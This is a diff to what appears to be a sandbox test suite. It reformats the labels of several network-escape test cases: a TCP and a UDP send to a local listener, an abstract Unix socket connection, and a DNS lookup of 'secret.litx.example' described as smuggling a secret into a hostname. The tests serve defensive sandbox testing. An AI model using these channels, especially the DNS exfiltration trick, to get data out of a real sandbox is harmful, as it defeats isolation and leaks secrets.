@@ -4,9 +4,7 @@ from tests.attacks.attack import Harm, attack, program
 
 ATTACKS = (
     attack(
-        14,
-        "net_tcp",
-        "connect to a listener",
+        "14 net_tcp: connect to a listener",
         program(
             "import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).send(b'x')",
             Harm.packet,
@@ -14,9 +12,7 @@ ATTACKS = (
         ),
     ),
     attack(
-        15,
-        "net_udp",
-        "send a datagram to a listener",
+        "15 net_udp: send a datagram to a listener",
         program(
             """
 import socket
@@ -28,9 +24,7 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
         ),
     ),
     attack(
-        16,
-        "net_unix_abstract",
-        "reach a listener that has a name but no file",
+        "16 net_unix_abstract: reach a listener that has a name but no file",
         program(
             """
 import socket
@@ -48,9 +42,7 @@ with socket.socket(socket.AF_UNIX) as out:
         ),
     ),
     attack(
-        17,
-        "dns",
-        "put a secret in the name of a host that is looked up",
+        "17 dns: put a secret in the name of a host that is looked up",
         program(
             "import socket\nsocket.getaddrinfo('secret.litx.example', 80)",
             Harm.packet,
